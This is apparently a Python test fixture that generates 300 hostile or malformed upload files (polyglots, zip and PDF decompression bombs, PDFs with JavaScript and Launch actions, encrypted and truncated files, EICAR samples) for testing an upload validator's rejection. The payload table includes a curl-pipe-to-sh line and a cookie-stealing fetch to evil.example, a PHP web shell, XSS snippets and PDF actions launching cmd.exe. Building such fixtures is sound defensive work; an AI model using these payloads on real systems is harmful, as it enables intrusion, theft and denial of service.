"""Three hundred files that must not be kept, the same ones in every run."""

from __future__ import annotations

import gzip
import random
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from functools import cache
from io import BytesIO

from PIL import Image

from bot.documents.model import Reason
from tests.documents.files import (
    CATALOG,
    PAGE,
    encrypted_pdf,
    packed_pdf,
    pdf,
    pdf_of_pages,
    photograph_of_a_telephone,
    picture,
    printed_pdf,
    saved,
    stream,
    with_a_second_version,
)

HOW_MANY = 300
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
MEGABYTE = 1024 * 1024
FOREIGN = frozenset({Reason.POLYGLOT, Reason.WRONG_KIND, Reason.DAMAGED, Reason.ACTIVE_CONTENT})
BROKEN = frozenset({Reason.DAMAGED, Reason.WRONG_KIND, Reason.POLYGLOT, Reason.EMPTY})
TOO_MUCH = frozenset({Reason.BOMB, Reason.DAMAGED})


@dataclass(frozen=True)
class Hostile:
    """A file, and why it may be refused: the first thing that is found wrong."""

    name: str
    content: bytes
    reasons: frozenset[Reason]


@cache
def archive(name: str = "evil.js", text: bytes = b"alert(1)") -> bytes:
    written = BytesIO()
    with zipfile.ZipFile(written, "w") as packed:
        packed.writestr(zipfile.ZipInfo(name), text, zipfile.ZIP_DEFLATED)
    return written.getvalue()


@cache
def good() -> dict[str, bytes]:
    return {
        "pdf": printed_pdf(1),
        "jpg": photograph_of_a_telephone(),
        "png": saved(picture(), "PNG"),
        "heic": photograph_of_a_telephone("HEIF"),
    }


def program() -> bytes:
    return (
        b"MZ\x90\x00" + bytes(60) + b"\x0e\x1f\xba\x0e\x00This program cannot be run in DOS mode.\r\r\n$" + bytes(200)
    )


PAYLOADS: dict[str, Callable[[], bytes]] = {
    "zip": archive,
    "docx": lambda: archive("word/document.xml", b"<w:document/>"),
    "html": lambda: b"<!DOCTYPE html><html><body>hola</body></html>",
    "script": lambda: b"<script>alert(document.cookie)</script>",
    "svg": lambda: b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    "php": lambda: b"<?php system($_GET['c']); ?>",
    "exe": program,
    "elf": lambda: b"\x7fELF\x02\x01\x01\x00" + bytes(120),
    "rar": lambda: b"Rar!\x1a\x07\x01\x00" + bytes(80),
    "7z": lambda: b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(80),
    "js": lambda: b"/* a script */ fetch('https://evil.example/' + document.cookie);",
    "shell": lambda: b"#!/bin/sh\ncurl https://evil.example/x | sh\n",
}


def wrong_kinds() -> Iterator[Hostile]:
    made = {name: make() for name, make in PAYLOADS.items()} | {
        "gif": saved(picture(20, 20), "GIF"),
        "gif_with_script": b"GIF89a/*" + bytes(8) + b"*/=1;alert(1);",
        "bmp": saved(picture(20, 20), "BMP"),
        "tiff": saved(picture(20, 20), "TIFF"),
        "webp": saved(picture(20, 20), "WEBP"),
        "ico": saved(picture(32, 32), "ICO"),
        "eps": saved(picture(20, 20), "EPS"),
        "gzip": gzip.compress(b"x" * 999, mtime=0),
        "zip_bomb": archive("zeros", bytes(20 * MEGABYTE)),
        "zip_of_zips": archive("inner.zip", archive("zeros", bytes(MEGABYTE))),
        "mp4": struct.pack(">I4s4sI", 20, b"ftyp", b"isom", 1) + b"mp42" + bytes(64),
        "avif": struct.pack(">I4s4sI", 24, b"ftyp", b"avif", 0) + b"mif1miaf" + bytes(64),
        "ole": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600),
        "rtf": rb"{\rtf1 hola}",
        "text": b"Soy una escritura, de verdad.",
        "eicar": EICAR,
        "json": b'{"a": 1}',
        "zeros": bytes(5000),
        "spaces": b" " * 5000,
        "one_byte": b"%",
        "bom": b"\xef\xbb\xbfhola",
        "mach_o": b"\xcf\xfa\xed\xfe" + bytes(200),
        "class": b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + bytes(200),
        "jpeg_xl": b"\xff\x0a" + bytes(200),
        "jpeg_2000": b"\x00\x00\x00\x0cjP  \r\n\x87\n" + bytes(200),
        "png_mark_alone_broken": b"\x89PNG\n\n\x1a\n" + bytes(200),
        "mime_mail": b"MIME-Version: 1.0\r\nContent-Type: application/pdf\r\n\r\nJVBERi0=",
        "base64_pdf": b"JVBERi0xLjcKJcTl8uXrp/Og0MTGCg==",
    }
    for name, content in made.items():
        yield Hostile(f"{name}.pdf", content, FOREIGN)
    chance = random.Random(11)
    for number in range(10):
        yield Hostile(f"noise_{number}.jpg", chance.randbytes(chance.randint(1, 9000)), BROKEN)


def polyglots() -> Iterator[Hostile]:
    for kind, content in good().items():
        for name, make in PAYLOADS.items():
            yield Hostile(f"{name}_behind.{kind}", content + make(), FOREIGN)
        for name in ("zip", "html", "exe", "js"):
            yield Hostile(f"{name}_before.{kind}", PAYLOADS[name]() + content, FOREIGN)
        if kind != "pdf":
            yield Hostile(f"pdf_behind.{kind}", content + pdf(), FOREIGN)
            yield Hostile(f"pdf_before.{kind}", pdf() + content, FOREIGN)
    jpeg, png = good()["jpg"], good()["png"]
    comment = archive()
    yield Hostile(
        "zip_in_comment.jpg", jpeg[:2] + b"\xff\xfe" + struct.pack(">H", len(comment) + 2) + comment + jpeg[2:], FOREIGN
    )
    yield Hostile("script_by_length.jpg", jpeg[:2] + b"\xff\xe0\x2f\x2a" + bytes(0x2F2A - 2) + jpeg[2:], FOREIGN)
    yield Hostile("html_in_text.png", png[:33] + chunk(b"tEXt", b"a\0<script>alert(1)</script>") + png[33:], FOREIGN)
    yield Hostile("zip_in_object.pdf", pdf(stream(archive())), FOREIGN)
    yield Hostile("zip_with_end_as_comment.pdf", pdf() + archive() + b"\n%%EOF\n", FOREIGN)
    yield Hostile("html_before_header.pdf", b"<html>" + pdf(), FOREIGN)
    yield Hostile("blank_before_header.pdf", b"\n\n" + pdf(), FOREIGN)


def chunk(name: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))


def png_that_says(width: int, height: int, data: bytes = b"", before: bytes = b"") -> bytes:
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    body = before + chunk(b"IDAT", zlib.compress(data))
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + body + chunk(b"IEND", b"")


def image_bombs() -> Iterator[Hostile]:
    for width, height in (
        (65_535, 65_535),
        (100_000, 100_000),
        (2_000_000_000, 2),
        (7_746, 7_746),
        (31_000, 10),
        (1, 60_000_001),
    ):
        yield Hostile(f"says_{width}_by_{height}.png", png_that_says(width, height), TOO_MUCH)
    yield Hostile("inflates.png", saved(Image.new("L", (7_800, 7_800)), "PNG"), TOO_MUCH)
    yield Hostile("inflates.jpg", saved(Image.new("L", (7_800, 7_800)), "JPEG", quality=1), TOO_MUCH)
    text = chunk(b"zTXt", b"Comment\0\0" + zlib.compress(bytes(90 * MEGABYTE)))
    yield Hostile("text_inflates.png", png_that_says(8, 8, before=text), TOO_MUCH)
    profile = chunk(b"iCCP", b"p\0\0" + zlib.compress(bytes(90 * MEGABYTE)))
    yield Hostile("profile_inflates.png", png_that_says(8, 8, before=profile), TOO_MUCH)
    frames = [Image.new("L", (8, 8), shade) for shade in range(0, 240, 10)]
    yield Hostile("film.png", saved(frames[0], "PNG", save_all=True, append_images=frames[1:]), TOO_MUCH)
    jpeg = good()["jpg"]
    at = jpeg.index(b"\xff\xc0") + 5
    yield Hostile("says_65500.jpg", jpeg[:at] + struct.pack(">HH", 65_500, 65_500) + jpeg[at + 4 :], TOO_MUCH)
    heic = good()["heic"]
    at = heic.index(b"ispe") + 8
    for width, height in ((60_000, 60_000), (2**31, 2**31), (0, 0)):
        said = heic[:at] + struct.pack(">II", width, height) + heic[at + 8 :]
        yield Hostile(f"says_{width}_by_{height}.heic", said, TOO_MUCH)


@cache
def deflated(size: int, times: int = 1) -> bytes:
    packed = zlib.compressobj(9)
    data = b"".join(packed.compress(bytes(MEGABYTE)) for _ in range(size // MEGABYTE)) + packed.flush()
    for _ in range(times - 1):
        data = zlib.compress(data, 9)
    return data


def pdf_bombs() -> Iterator[Hostile]:
    flate = b"/Filter/FlateDecode"
    yield Hostile("stream_inflates.pdf", pdf(stream(deflated(140 * MEGABYTE), flate)), TOO_MUCH)
    yield Hostile("twice.pdf", pdf(stream(deflated(140 * MEGABYTE, 2), b"/Filter[/FlateDecode/FlateDecode]")), TOO_MUCH)
    yield Hostile("by_another_name.pdf", pdf(stream(deflated(140 * MEGABYTE), b"/Filter/F#6CateDecode")), TOO_MUCH)
    yield Hostile(
        "in_hexadecimal.pdf",
        pdf(stream(deflated(140 * MEGABYTE).hex().encode() + b">", b"/Filter[/ASCIIHexDecode/FlateDecode]")),
        TOO_MUCH,
    )
    one = stream(deflated(100 * MEGABYTE), flate)
    yield Hostile("many_streams.pdf", pdf(*[one] * 6), TOO_MUCH)
    packed = b"/Type/ObjStm/N 1/First 4" + flate
    yield Hostile("packed_objects_inflate.pdf", pdf(stream(deflated(100 * MEGABYTE), packed)), TOO_MUCH)
    yield Hostile("five_filters.pdf", pdf(stream(b"x", b"/Filter[" + b"/ASCIIHexDecode" * 5 + b"]")), TOO_MUCH)
    yield Hostile("lzw.pdf", pdf(stream(bytes(3 * MEGABYTE), b"/Filter/LZWDecode")), TOO_MUCH)
    yield Hostile("run_length.pdf", pdf(stream(b"\x81\0" * (2 * MEGABYTE), b"/Filter/RunLengthDecode")), TOO_MUCH)
    yield Hostile("501_pages.pdf", pdf_of_pages(501), TOO_MUCH)
    yield Hostile(
        "one_page_501_times.pdf", pdf(pages=b"<</Type/Pages/Count 501/Kids[%s]>>" % (b"3 0 R " * 501)), TOO_MUCH
    )
    yield Hostile("pages_in_a_circle.pdf", pdf(pages=b"<</Type/Pages/Count 1/Kids[2 0 R 2 0 R]>>"), TOO_MUCH)
    tree = [b"<</Type/Pages/Count 9/Kids[%s]>>" % (b"%d 0 R " % (number + 1) * 10) for number in range(4, 12)]
    yield Hostile("pages_by_ten.pdf", pdf(*tree, PAGE, pages=b"<</Type/Pages/Count 9/Kids[4 0 R]>>"), TOO_MUCH)
    yield Hostile("deep_arrays.pdf", pdf(b"[" * 200_000 + b"]" * 200_000), TOO_MUCH)
    yield Hostile("deep_dictionaries.pdf", pdf(b"<</A" * 100_000 + b">>" * 100_000), TOO_MUCH)
    yield Hostile("many_objects.pdf", pdf(*[b"0"] * 100_001), TOO_MUCH)
    yield Hostile("long_array.pdf", pdf(b"[" + b"0 " * 3_000_000 + b"]"), TOO_MUCH)
    yield Hostile(
        "says_a_billion_rows.pdf",
        pdf(trailer=b"/Size 1000000000").replace(b"xref\n0 4", b"xref\n0 999999999"),
        TOO_MUCH,
    )


ACTIONS = {
    "javascript": b"<</S/JavaScript/JS(app.alert\\(1\\))>>",
    "javascript_without_kind": b"<</JS(app.alert\\(1\\))>>",
    "javascript_spelled": b"<</S/J#61vaScript/#4aS(app.alert\\(1\\))>>",
    "javascript_spelled_whole": b"<</S/#4A#61#76#61#53#63#72#69#70#74/X(a)>>",
    "launch": b"<</S/Launch/F(cmd.exe)>>",
    "launch_windows": b"<</Type/Action/S/Launch/Win<</F(calc.exe)>>>>",
    "other_file": b"<</S/GoToR/F(\\\\\\\\evil.example\\\\share)/D[0/Fit]>>",
    "embedded_target": b"<</S/GoToE/T<</R/C/N(a)>>>>",
    "submit": b"<</S/SubmitForm/F(https://evil.example)>>",
    "import": b"<</S/ImportData/F(x.fdf)>>",
    "rendition": b"<</S/Rendition/OP 0>>",
    "movie": b"<</S/Movie>>",
    "sound": b"<</S/Sound/Sound 4 0 R>>",
}


def active_pdfs() -> Iterator[Hostile]:
    active = frozenset({Reason.ACTIVE_CONTENT})
    for name, action in ACTIONS.items():
        yield Hostile(f"{name}_at_opening.pdf", pdf(catalog=CATALOG[:-2] + b"/OpenAction" + action + b">>"), active)
        yield Hostile(f"{name}_led_to_by_nothing.pdf", pdf(action), active)
        yield Hostile(f"{name}_packed.pdf", packed_pdf(action), active)
    for name in ("javascript", "launch", "javascript_spelled"):
        action = ACTIONS[name]
        page = PAGE[:-2]
        yield Hostile(f"{name}_on_page.pdf", pdf(page=page + b"/AA<</O" + action + b">>>>"), active)
        link = b"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A" + action + b">>]>>"
        yield Hostile(f"{name}_on_link.pdf", pdf(page=page + link), active)
        yield Hostile(f"{name}_later.pdf", with_a_second_version(pdf(), action), active)
        yield Hostile(f"{name}_replaced.pdf", with_a_second_version(pdf(*[b"0"] * 5, action), b"0"), active)
        yield Hostile(f"{name}_packed_and_unnamed.pdf", packed_pdf(action, named=False), active)
    names = b"/Names<</JavaScript<</Names[(a) 4 0 R]>>>>>>"
    yield Hostile("named_script.pdf", pdf(ACTIONS["javascript"], catalog=CATALOG[:-2] + names), active)
    file = b"<</Type/Filespec/F(a.exe)/EF<</F 5 0 R>>>>"
    yield Hostile("embedded_file.pdf", pdf(file, stream(b"MZ", b"/Type/EmbeddedFile")), active)
    yield Hostile("embedded_packed.pdf", packed_pdf(b"<</F(a.exe)/EF<</F 9 0 R>>>>"), active)
    yield Hostile("eicar_embedded.pdf", pdf(file, stream(EICAR, b"/Type/EmbeddedFile")), active | {Reason.INFECTED})
    yield Hostile("attachment.pdf", pdf(b"<</Type/Annot/Subtype/FileAttachment/FS(a)>>"), active)
    yield Hostile("form.pdf", pdf(catalog=CATALOG[:-2] + b"/AcroForm<</XFA 4 0 R>>>>"), active)
    yield Hostile("rich_media.pdf", pdf(b"<</Type/Annot/Subtype/RichMedia/RichMediaContent<<>>>>"), active)
    yield Hostile("model.pdf", pdf(b"<</Type/Annot/Subtype/3D>>"), active)
    yield Hostile("stream_elsewhere.pdf", pdf(stream(b"", b"/F(https://evil.example/x)")), active)


def encrypted() -> Iterator[Hostile]:
    secret = frozenset({Reason.ENCRYPTED})
    for algorithm in ("RC4-40", "RC4-128", "AES-128", "AES-256-R5", "AES-256"):
        yield Hostile(f"{algorithm}.pdf", encrypted_pdf("user", algorithm), secret)
    handler = b"/Encrypt<</Filter/Adobe.PubSec/SubFilter/adbe.pkcs7.s5/V 4>>"
    yield Hostile("certificate.pdf", pdf(trailer=handler), secret | {Reason.DAMAGED})


def broken() -> Iterator[Hostile]:
    whole = pdf()
    yield Hostile("empty.pdf", b"", frozenset({Reason.EMPTY}))
    yield Hostile("large.pdf", whole + bytes(20 * MEGABYTE), frozenset({Reason.TOO_LARGE}))
    yield Hostile("header_alone.pdf", b"%PDF-1.7\n", BROKEN)
    yield Hostile("header_and_end.pdf", b"%PDF-1.7\n%%EOF", BROKEN)
    yield Hostile("no_pages.pdf", pdf(pages=b"<</Type/Pages/Kids[]/Count 0>>"), BROKEN)
    yield Hostile("pages_of_nothing.pdf", pdf(pages=b"null"), BROKEN)
    yield Hostile("no_catalog.pdf", pdf(catalog=b"null"), BROKEN)
    yield Hostile("lost_contents.pdf", pdf(page=PAGE[:-2] + b"/Contents 77 0 R>>"), BROKEN)
    yield Hostile("wrong_table.pdf", whole.replace(b"startxref\n", b"startxref\n9"), BROKEN)
    yield Hostile("no_table.pdf", whole[: whole.index(b"xref")] + b"%%EOF", BROKEN)
    yield Hostile("says_longer.pdf", pdf(b"<</Linearized 1/L 99999>>").replace(b"1 0 obj", b"1 0 obj"), BROKEN)
    first = b"%PDF-1.7\n9 0 obj\n<</Linearized 1/L 99999/N 1>>\nendobj\n"
    yield Hostile("cut_while_it_arrived.pdf", first + whole[9:], BROKEN)
    jpeg, png, heic = good()["jpg"], good()["png"], good()["heic"]
    yield Hostile("mark_alone.jpg", b"\xff\xd8\xff", BROKEN)
    yield Hostile("no_picture.jpg", b"\xff\xd8\xff\xd9", BROKEN)
    yield Hostile("wrong_sum.png", png[:-20] + bytes([png[-20] ^ 1]) + png[-19:], BROKEN)
    yield Hostile("no_data.png", png_that_says(8, 8).replace(chunk(b"IDAT", zlib.compress(b"")), b""), BROKEN)
    yield Hostile("little_data.png", png_that_says(800, 800, b"\0" * 100), BROKEN)
    yield Hostile("segment_past_the_end.jpg", jpeg[:2] + b"\xff\xe1\xff\xff" + jpeg[-40:], BROKEN)
    yield Hostile("box_past_the_end.heic", heic[:24] + b"\xff\xff\xff\xffmeta" + heic[32:], BROKEN)
    chance = random.Random(13)
    for number in range(8):
        at = heic.index(b"meta") + 8
        yield Hostile(f"garbage_{number}.heic", heic[:at] + chance.randbytes(600), BROKEN | TOO_MUCH)


def infected() -> Iterator[Hostile]:
    """What only a scanner sees: it is data of a page, not something that acts."""
    virus = frozenset({Reason.INFECTED})
    yield Hostile("eicar_on_page.pdf", pdf(stream(EICAR), page=PAGE[:-2] + b"/Contents 4 0 R>>"), virus)
    yield Hostile("eicar_in_comment.pdf", pdf(b"null %" + EICAR + b"\n"), virus)


def cut(how_many: int) -> Iterator[Hostile]:
    """Each kind, and PDFs of several makes, cut at places of all parts."""
    whole = good() | {"packed.pdf": packed_pdf(b"<</A 1>>"), "two.pdf": with_a_second_version(pdf(), b"<</A 1>>")}
    chance = random.Random(17)
    for number in range(how_many):
        kind = list(whole)[number % len(whole)]
        content = whole[kind].rstrip(b"\n")
        length = len(content) - 1 if number < len(whole) else chance.randrange(len(content))
        if kind == "two.pdf" and content[:length].rstrip().endswith(b"%%EOF"):
            length -= 8  # exactly the first version: a whole file
        yield Hostile(f"cut_{number}_at_{length}.{kind}", content[:length], BROKEN)


def hostile_files() -> list[Hostile]:
    parts = (wrong_kinds, polyglots, image_bombs, pdf_bombs, active_pdfs, encrypted, broken, infected)
    made = [file for part in parts for file in part()]
    return [*made, *cut(HOW_MANY - len(made))]
